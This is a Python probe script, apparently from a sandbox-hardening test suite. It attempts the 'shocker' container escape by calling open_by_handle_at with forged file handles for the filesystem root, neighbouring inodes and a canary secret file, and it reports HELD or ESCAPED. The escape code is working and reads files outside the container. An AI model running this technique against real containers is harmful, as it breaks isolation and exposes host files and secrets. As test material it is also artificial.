#!/usr/bin/env python3
# class: filesystem
# tries: the "shocker" way out of containers: open_by_handle_at with the handle of the secret, of the file system's root (inode 2) and of neighbouring inodes, with /workspace as the mount
# must: HELD: EPERM (no CAP_DAC_READ_SEARCH) for every handle
# control: bare
# control-needs: root
import ctypes, errno, os, platform, signal, sys, time
def end(ok, why):
    sys.stdout.flush(); os.write(1, (("ESCAPED: " if ok else "HELD: ") + " ".join(str(why).split())[:400] + "\n").encode("utf-8", "replace")); os._exit(0)
signal.signal(signal.SIGALRM, lambda *a: end(False, "VACUOUS: own time limit")); signal.alarm(18)
E = os.environ.get
def need(*names):
    for n in names:
        if not E(n): end(False, "VACUOUS: %s not set" % n)
    return E(names[0])
libc = ctypes.CDLL(None, use_errno=True); libc.syscall.restype = ctypes.c_long
def nr(x86, arm): return x86 if platform.machine() == "x86_64" else arm
def sc(n, *a):
    ctypes.set_errno(0); r = libc.syscall(ctypes.c_long(n), *[ctypes.c_long(x) if isinstance(x, int) else x for x in a]); return r, ctypes.get_errno()
def en(e): return errno.errorcode.get(e, str(e))
def child(fn, wait=6):
    """runs fn in a forked child; its returned text, or how it died"""
    r, w = os.pipe(); p = os.fork()
    if p == 0:
        signal.alarm(int(wait)); signal.signal(signal.SIGALRM, signal.SIG_DFL); os.close(r)
        try: t = fn()
        except BaseException as e: t = "error %s" % e
        os.write(w, str(t).encode()); os._exit(0)
    os.close(w); d = b""
    while True:
        b = os.read(r, 65536)
        if not b: break
        d += b
    os.close(r); _, st = os.waitpid(p, 0)
    return d.decode("utf-8", "replace") if d else ("killed by signal %d" % os.WTERMSIG(st) if os.WIFSIGNALED(st) else "no answer")
def host_visible(): return bool(E("HOST_PID")) and os.path.isdir("/proc/%s/task" % E("HOST_PID"))
# --- the attempt ---
import struct
class H(ctypes.Structure): _fields_ = [("n", ctypes.c_uint), ("t", ctypes.c_int), ("b", ctypes.c_ubyte * 128)]
NT, OB = nr(303, 264), nr(304, 265); got = []; errs = set()
mnt = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
def handle(path):
    h = H(); h.n = 128; m = ctypes.c_int(); r, e = sc(NT, -100, path.encode(), ctypes.byref(h), ctypes.byref(m), 0); return h if r == 0 else None
def opens(h, what):
    r, e = sc(OB, mnt, ctypes.byref(h), os.O_RDONLY)
    if r >= 0: got.append(what + " = " + os.readlink("/proc/self/fd/%d" % r)); os.close(r)
    else: errs.add(en(e))
s = handle(E("CANARY_SECRET_FILE", "/nonexistent"))
if s: opens(s, "secret")
own = handle(".")
for ino in [2, 128, 64, 256] + list(range(11, 60)):
    h = H(); raw = struct.pack("II", ino, 0); h.n = 8; h.t = 1; ctypes.memmove(h.b, raw, 8); opens(h, "inode %d" % ino)
    if own and own.n >= 8: o = H(); ctypes.memmove(ctypes.byref(o), ctypes.byref(own), ctypes.sizeof(H)); ctypes.memmove(o.b, raw, 4); opens(o, "inode %d by own handle" % ino)
if own: opens(own, "own folder by handle")
end(bool(got), "; ".join(got[:3]) if got else "refused: %s" % sorted(errs))
